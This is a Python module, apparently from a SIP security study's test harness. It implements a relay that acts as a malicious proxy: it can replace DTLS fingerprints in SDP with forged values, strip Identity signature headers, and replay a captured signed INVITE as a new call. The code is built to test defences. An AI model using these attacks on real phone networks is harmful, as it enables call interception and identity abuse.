# SPDX-License-Identifier: GPL-2.0-or-later
"""What the study's colluding proxies do, in one program: a SIP relay between the gateways
that changes what it likes. It sees what the signer has signed, and cannot sign."""
import os
import re
import select
import socket
import threading

import net

FINGERPRINT = re.compile(r"(a=fingerprint:sha-256 )(\S+)")


class Relay:
    """At `addr` in `ns`; `homes` says which gateway serves a domain.

    `attack` says what becomes of requests: "none", "swap-invite", "swap-update",
    "swap" (both, and answers), "strip" (of their signature).
    """

    def __init__(self, ns, addr, homes):
        self.addr, self.homes = addr, homes
        self.attack, self.false = "none", ":".join(f"{b:02X}" for b in os.urandom(32))
        self.seen, self.kept = [], None
        with net.inside(ns):
            self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.socket.bind((addr, 5060))
            self.own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.own.bind((addr, 5070))
        self.own.settimeout(20)
        self.stopping = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def swapped(self, message):
        return FINGERPRINT.sub(rf"\g<1>{self.false}", message)

    def _run(self):
        while not self.stopping:
            if not select.select([self.socket], [], [], 0.2)[0]:
                continue
            octets, source = self.socket.recvfrom(65536)
            message = octets.decode("utf-8", "replace")
            self.seen.append(message)
            if message.startswith("SIP/2.0 "):
                self._back(message)
            else:
                self._on(message, source)

    def _on(self, message, source):
        method, uri, _ = message.split(" ", 2)
        host = re.match(r"sips?:(?:[^@]*@)?([^;:?>]+)", uri).group(1)
        # Our own Route off, our Via and Record-Route on.
        message = re.sub(rf"^Route: *<sip:{re.escape(self.addr)}(:5060)?;lr>\r\n", "", message,
                         count=1, flags=re.M)
        message = re.sub(rf"^Route: *<sip:{re.escape(self.addr)}(:5060)?;lr>, *", "Route: ", message,
                         count=1, flags=re.M)
        branch = re.search(r"branch=([^;,\s]+)", message).group(1)
        top = (f"Via: SIP/2.0/UDP {self.addr}:5060;branch={branch}x{source[0].replace('.', 'x')}\r\n"
               f"Record-Route: <sip:{self.addr};lr>\r\n")
        first, rest = message.split("\r\n", 1)
        message = f"{first}\r\n{top}{rest}"
        if method == "INVITE" and "\r\nIdentity:" in message:
            self.kept = message
        if self.attack == "swap" or self.attack == f"swap-{method.lower()}":
            message = self.swapped(message)
        if self.attack == "strip":
            message = re.sub(r"^Identity:.*\r\n", "", message, flags=re.M)
        self.socket.sendto(message.encode(), (self.homes.get(host, host), 5060))

    def _back(self, message):
        message = re.sub(r"^Via:.*?\r\n", "", message, count=1, flags=re.M | re.S)
        if self.attack.startswith("swap"):
            message = self.swapped(message)
        via = re.search(r"^Via:\s*SIP/2.0/UDP ([^;:\s]+)(?::(\d+))?([^\r,]*)", message, re.M)
        port = re.search(r"rport=(\d+)", via.group(3))
        host = re.search(r"received=([^;\s]+)", via.group(3))
        self.socket.sendto(message.encode(), (host.group(1) if host else via.group(1),
                                              int(port.group(1) if port else via.group(2) or 5060)))

    def replay(self, to, host):
        """Sends a signed INVITE of earlier anew, as another call; returns the final response."""
        mark = os.urandom(4).hex()
        message = re.sub(r"^Via:.*\r\n", "", self.kept, flags=re.M)
        message = re.sub(r"^Record-Route:.*\r\n", "", message, flags=re.M)
        message = re.sub(r"^(Call-ID: *)", rf"\g<1>{mark}", message, flags=re.M)
        message = re.sub(r"^(From:.*tag=)", rf"\g<1>{mark}", message, flags=re.M)
        first, rest = message.split("\r\n", 1)
        via = f"Via: SIP/2.0/UDP {self.addr}:5070;branch=z9hG4bK{mark}"
        self.own.sendto(f"{first}\r\n{via}\r\n{rest}".encode(), (host, 5060))
        while True:
            answer = self.own.recv(65536).decode("utf-8", "replace")
            if not answer.startswith("SIP/2.0 1"):
                ack = [f"ACK {first.split(' ')[1]} SIP/2.0", via, "Max-Forwards: 70"]
                ack += [re.search(rf"^{name}:.*?(?=\r)", answer, re.M).group(0)
                        for name in ("From", "To", "Call-ID")]
                cseq = re.search(r"^CSeq: *(\d+)", answer, re.M).group(1)
                self.own.sendto("\r\n".join([*ack, f"CSeq: {cseq} ACK", "Content-Length: 0", "", ""])
                                .encode(), (host, 5060))
                return answer

    def stop(self):
        self.stopping = True
        self.thread.join(5)
